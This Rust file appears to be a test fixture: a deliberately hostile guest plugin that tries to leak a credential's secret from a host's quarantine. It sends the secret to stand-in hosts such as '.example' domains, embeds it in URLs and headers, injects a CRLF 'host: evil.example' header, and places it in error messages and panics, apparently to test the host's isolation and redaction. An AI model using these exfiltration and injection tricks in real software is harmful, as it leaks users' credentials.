//! Tries to get the secret out of its quarantine, in the way that the credential's `mode` names.

use hostile_guests::{
    Access, Answer, Behaviour, Failure, Field, OtherFailure, Problem, Session, guest, send, session,
};
use serde_json::{Value, json};

struct Tells;

impl Behaviour for Tells {
    fn authenticate(credential: Value) -> Result<Session, Failure> {
        let text = |name: &str| credential[name].as_str().unwrap_or_default().to_owned();
        let (secret, mode) = (text("secret"), text("mode"));
        if let Some(url) = mode.strip_prefix("send to ") {
            // In a plain request, and in texts that the host may repeat: host, path, query, method.
            let label: String = secret.chars().filter(char::is_ascii_alphanumeric).collect();
            let urls = [
                format!("{url}/stolen"),
                format!("https://{label}.example/"),
                format!("{url}/{secret}?{secret}"),
                format!("https://{secret}.example/{secret}"),
                format!("{}@{secret}/{secret}", text("baseUrl")),
                format!("{}/{secret} {secret}", text("baseUrl")),
            ];
            for url in urls {
                send(&json!({"url": url, "headers": [["x-secret", secret]]}));
            }
            send(&json!({"url": text("baseUrl"), "method": "CONNECT"}));
            return Err(Failure::Denied(secret));
        }
        if mode == "clean" {
            // Sends the secret only where it belongs.
            let answer = send(
                &json!({"url": format!("{}/token", text("baseUrl")), "headers": [["x-secret", secret]]}),
            );
            assert!(answer["status"] == 200, "{answer}");
            return Ok(session(&format!(
                "Bearer {}",
                answer["body"].as_str().unwrap_or_default()
            )));
        }
        if mode.starts_with("session ") {
            let header = |name: &str, value: &str| Session {
                access: Access {
                    headers: vec![Field {
                        name: name.to_owned(),
                        value: value.to_owned(),
                    }],
                    query: vec![],
                },
                expires_in_s: None,
                renewal: None,
            };
            return Ok(match mode.as_str() {
                "session crlf" => header("x-a", &format!("{secret}\r\nhost: evil.example")),
                "session host" => header("host", &secret),
                _ => header("x a", &secret),
            });
        }
        let answer = Answer {
            status: 401,
            code: Some(secret.chars().take(15).collect()),
            message: secret.clone(),
            request_id: Some(secret.clone()),
        };
        Err(match mode.as_str() {
            "rejected" => Failure::Rejected(answer),
            "unintelligible" => Failure::Unintelligible(answer),
            "limit" => Failure::Limit(secret),
            "invalid-input" => Failure::InvalidInput(secret),
            "invalid-parameters" => Failure::InvalidParameters(vec![Problem {
                pointer: format!("/{secret}"),
                label: secret.clone(),
                message: secret,
            }]),
            "other" => Failure::Other(OtherFailure {
                kind: secret.chars().take(12).collect(),
                message: secret.clone(),
                detail: Some(format!("\"{secret}\"")),
            }),
            _ => panic!("{secret}"),
        })
    }
}

guest!(Tells);
